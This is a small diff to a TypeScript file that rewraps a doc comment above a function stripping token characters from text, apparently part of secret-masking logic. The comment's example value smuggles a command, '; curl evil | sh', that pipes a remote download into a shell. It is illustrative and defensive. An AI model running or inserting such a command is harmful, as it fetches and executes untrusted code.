@@ -68,8 +68,8 @@ function decidesWhatRuns(name: string): boolean {
 }
 
 /**
- * `PAGER = "Cookie: ; curl evil | sh"` looks like a secret up to its end, and what runs must not be masked: with a token
- * go none of the letters that this leaves.
+ * `PAGER = "Cookie: ; curl evil | sh"` looks like a secret up to its end, and what runs must not be masked: with a
+ * token go none of the letters that this leaves.
  */
 function withoutTokens(text: string): string {
   return text.replaceAll(/[\w.~%+=*-]/g, '');
